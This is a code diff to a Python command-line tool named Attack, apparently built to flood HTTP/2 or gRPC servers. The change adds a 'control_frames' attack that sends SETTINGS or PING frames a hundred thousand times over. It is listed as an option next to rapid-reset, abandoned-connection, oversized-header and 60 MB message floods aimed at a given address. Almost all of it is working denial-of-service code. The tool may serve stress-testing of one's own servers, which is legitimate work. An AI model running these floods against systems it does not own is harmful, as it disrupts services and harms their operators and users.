@@ -106,6 +106,12 @@ class Attack:
     def abandon_connections(self):
         self.repeat(reset_calls(1000, resets=False), keeps=0.3)
 
+    def control_frames(self):
+        """Frames that the server must answer."""
+        frame = {"settings": http2.frame(http2.SETTINGS),
+                 "ping": http2.frame(http2.PING, 0, 0, bytes(8))}[self.options.method]
+        self.repeat(memoryview(frame * 100_000))
+
     def long_messages(self):
         """60 MB to a method that takes none, on each connection one call after the other."""
         threads = [threading.Thread(target=self._send_long_messages)
@@ -143,7 +149,7 @@ class Attack:
 def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("attack", choices=["header_fields", "rapid_reset", "abandon_connections",
-                                           "long_messages"])
+                                           "control_frames", "long_messages"])
     parser.add_argument("address")
     parser.add_argument("--connections", type=int, default=1)
     parser.add_argument("--seconds", type=float, default=3)
